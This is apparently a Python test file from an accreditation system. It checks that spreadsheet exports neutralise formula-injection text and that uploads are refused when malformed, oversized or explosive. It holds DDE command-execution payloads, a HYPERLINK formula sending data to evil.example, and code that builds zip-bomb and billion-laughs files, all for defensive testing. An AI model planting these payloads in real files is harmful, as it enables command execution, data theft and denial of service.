"""Spreadsheets: text that a spreadsheet would run as a formula is neutralised in
every export, and malformed, oversized or explosive uploads are refused quickly,
before anything is read into the database."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from accreditation.excel import assessment_items, experts, institutions
from accreditation.excel.reading import ImportRefused
from accreditation.excel.writing import FORMULA_STARTS, neutralised
from accreditation.models import Institution, ItemGrade
from accreditation.selectors.exports import assessment_item_results
from accreditation.services.assessments import item_grade_save
from standards.exporters import edition_export
from standards.importers.documents import read_file
from standards.importers.errors import CatalogueFileError
from standards.models import Edition, Item
from tests.accreditation.excel.helpers import expert, institution

#: Cell contents that run something when a spreadsheet takes them for formulas.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


def cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list[str]:
    """No cell is a formula, and no text cell starts like one; returns the texts."""
    texts = []
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
            texts.append(cell.value)
    return texts


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralised_text_starts_with_an_apostrophe(text):
    assert neutralised(text) == "'" + text
    assert neutralised("河口镇卫生院") == "河口镇卫生院"
    assert neutralised(-2) == -2 and neutralised(None) is None


def test_the_assessment_export_neutralises_names_notes_and_reasons(world):
    a = world.assessment_a
    Institution.objects.filter(pk=world.institution_a.pk).update(name=FORMULAS[0])
    for code, text in zip(("1.1.1", "1.1.2", "1.1.3", "2.1.2"), FORMULAS[1:], strict=False):
        version = ItemGrade.objects.get(assessment=a, item_code=code).version
        item_grade_save(
            actor=world.staff_a,
            assessment=a,
            item_code=code,
            expected_version=version,
            grade="NA" if code == "2.1.2" else "B",
            na_reason=text if code == "2.1.2" else "",
            note=text,
        )
    data = assessment_item_results(user=world.officer_province, assessment_id=a.pk)
    texts = assert_no_formula(assessment_items.write(data))
    assert "'" + FORMULAS[0] in texts
    assert "'" + FORMULAS[1] in texts or any(t.startswith("'=HYPERLINK") for t in texts)


def test_the_import_templates_neutralise_what_they_are_given():
    rows = [institution(1, name=FORMULAS[0], address=FORMULAS[2], contact_name=FORMULAS[3])]
    texts = assert_no_formula(institutions.write(rows))
    assert "'" + FORMULAS[0] in texts
    texts = assert_no_formula(experts.write([expert(1, full_name=FORMULAS[4])]))
    assert "'" + FORMULAS[4] in texts


def test_the_catalogue_export_keeps_formula_like_titles_as_text(world):
    edition = Edition.objects.get(pk=world.assessment_a.edition_id)
    Item.objects.filter(edition=edition, code="1.1.1").update(title=FORMULAS[0])
    for cell in cells(edition_export(edition=edition, file_format="xlsx")):
        assert cell.data_type != "f", (cell.coordinate, cell.value)


# Uploads ------------------------------------------------------------------------------


def _parse(data: bytes, max_bytes: int = 10 * 1024 * 1024):
    started = time.monotonic()
    try:
        with pytest.raises(ImportRefused) as excinfo:
            institutions.parse(data, max_rows=20000, max_bytes=max_bytes)
    finally:
        assert time.monotonic() - started < 5, "refused too slowly"
    return excinfo.value.errors


def _rewrite(data: bytes, part: str, change) -> bytes:
    """The workbook with one part changed."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == part:
                content = change(content)
            target.writestr(info.filename, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def _blank_rows(count: int):
    def change(content: bytes) -> bytes:
        text = content.decode()
        text = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:N{count}"', text)
        rows = "".join(f'<row r="{n}"/>' for n in range(3, count))
        return text.replace("</sheetData>", rows + "</sheetData>").encode()

    return change


def test_a_sheet_declaring_a_million_blank_rows_is_refused_quickly():
    data = _rewrite(institutions.write([institution(1)]), SHEET, _blank_rows(1_000_000))
    (error,) = _parse(data)
    assert "blank ones included" in error.reason


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = b"<x>" + b" " * (150 * 1024 * 1024) + b"</x>"
    data = _rewrite(institutions.write([institution(1)]), "docProps/app.xml", lambda _: bomb)
    assert len(data) < 1024 * 1024
    (error,) = _parse(data)
    assert "too large once unpacked" in error.reason


def test_a_billion_laughs_workbook_does_not_expand():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
            for i in range(1, 10)
        )
        + "]>"
    )

    def change(content: bytes) -> bytes:
        text = content.decode()
        text = text[text.index("<worksheet") :]
        return (laughs + text.replace("<is><t>", "<is><t>&lol9;", 1)).encode()

    data = _rewrite(institutions.write([institution(1)]), SHEET, change)
    (error,) = _parse(data)
    assert "amplification" in error.reason


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + b"\x00garbage" * 100,
        b"not a zip at all",
        b"\x1f\x8b\x08\x00compressed",
    ],
    ids=["bad zip", "not a zip", "gzip"],
)
def test_malformed_uploads_are_refused(data):
    (error,) = _parse(data)
    assert error.row == 0


def test_a_truncated_workbook_is_refused():
    data = institutions.write([institution(n) for n in range(1, 50)])
    (error,) = _parse(data[: len(data) // 2])
    assert error.row == 0


def test_an_oversized_upload_is_refused_unread():
    data = institutions.write([institution(1)])
    (error,) = _parse(data, max_bytes=len(data) - 1)
    assert "larger than" in error.reason


@pytest.mark.parametrize(
    "content",
    [b"PK\x03\x04" + b"\x00" * 64, b"plain text"],
    ids=["bad zip", "not a zip"],
)
def test_the_catalogue_importer_refuses_malformed_workbooks(tmp_path: Path, content):
    path = tmp_path / "edition.xlsx"
    path.write_bytes(content)
    with pytest.raises(CatalogueFileError):
        read_file(path)


def test_the_catalogue_importer_refuses_a_zip_bomb(tmp_path: Path, world):
    edition = Edition.objects.get(pk=world.assessment_a.edition_id)
    data = edition_export(edition=edition, file_format="xlsx")
    bomb = b"<x>" + b" " * (150 * 1024 * 1024) + b"</x>"
    path = tmp_path / "edition.xlsx"
    path.write_bytes(_rewrite(data, "docProps/app.xml", lambda _: bomb))
    with pytest.raises(CatalogueFileError, match="too large once unpacked"):
        read_file(path)
